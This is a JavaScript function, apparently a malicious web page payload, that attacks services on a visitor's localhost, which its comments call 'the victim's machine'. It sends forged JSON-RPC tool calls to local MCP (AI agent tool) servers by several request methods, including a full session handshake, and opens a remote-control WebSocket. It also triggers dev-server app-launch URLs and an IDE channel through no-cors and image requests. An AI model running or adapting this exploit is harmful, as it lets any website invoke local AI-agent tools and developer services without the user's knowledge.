// A page that tries every endpoint of a Host and a proxy, each in every way. Returns when all have been answered;
// what it has gained is seen on the victim's machine, under the name `who`.
async ({who, host, http, call, headers, hello, frame, mvid}) => {
  const attempt = async (what) => {
    try { await what(AbortSignal.timeout(8000)); } catch { /* refused */ }
  };
  const url = (port, path) => `http://localhost:${port}${path}`;
  const named = (name, message = call) => JSON.stringify(message).replace("%", `${who} ${name}`);
  const inSession = {...call, params: {name: call.params.name, arguments: call.params.arguments}};
  const launch = (name) => url(host, `/applaunch/${mvid}?platform=${who}-${name}`);
  const json = {"Content-Type": "application/json", "Accept": headers.Accept};
  for (const [where, port] of [["host", host], ["http", http]]) {
    const mcp = url(port, "/mcp");
    await attempt((signal) => fetch(mcp, {method: "POST", headers, signal, body: named(`modern ${where}`)}));
    await attempt((signal) => fetch(mcp, {method: "POST", signal, mode: "no-cors", body: named(`simple ${where}`)}));
    await attempt(async (signal) => {
      const first = {jsonrpc: "2.0", id: 1, method: "initialize", params: hello};
      const opened = await fetch(mcp, {method: "POST", headers: json, signal, body: JSON.stringify(first)});
      const session = {...json, "Mcp-Session-Id": opened.headers.get("mcp-session-id")};
      await opened.text();
      const body = JSON.stringify({jsonrpc: "2.0", method: "notifications/initialized"});
      await fetch(mcp, {method: "POST", headers: session, signal, body});
      await fetch(mcp, {method: "POST", headers: session, signal, body: named(`handshake ${where}`, inSession)});
    });
  }
  await attempt((signal) => new Promise((resolve) => {
    signal.onabort = resolve;
    const app = Object.assign(new WebSocket(`ws://localhost:${host}/rc`), {binaryType: "arraybuffer"});
    app.onopen = () => app.send(new Uint8Array(frame));
    app.onmessage = app.onerror = app.onclose = resolve;
  }));
  await attempt((signal) => fetch(launch("fetch"), {signal}));
  await attempt((signal) => fetch(launch("silent"), {signal, mode: "no-cors", referrerPolicy: "no-referrer"}));
  await attempt(() => new Promise((resolve) => {
    const image = Object.assign(new Image(), {referrerPolicy: "no-referrer", onload: resolve, onerror: resolve});
    image.src = launch("image");
  }));
  // Last: from now on apps wait for an IDE.
  await attempt((signal) => fetch(url(host, `/devserver/idechannel/${who}-pipe`), {method: "POST", signal}));
}
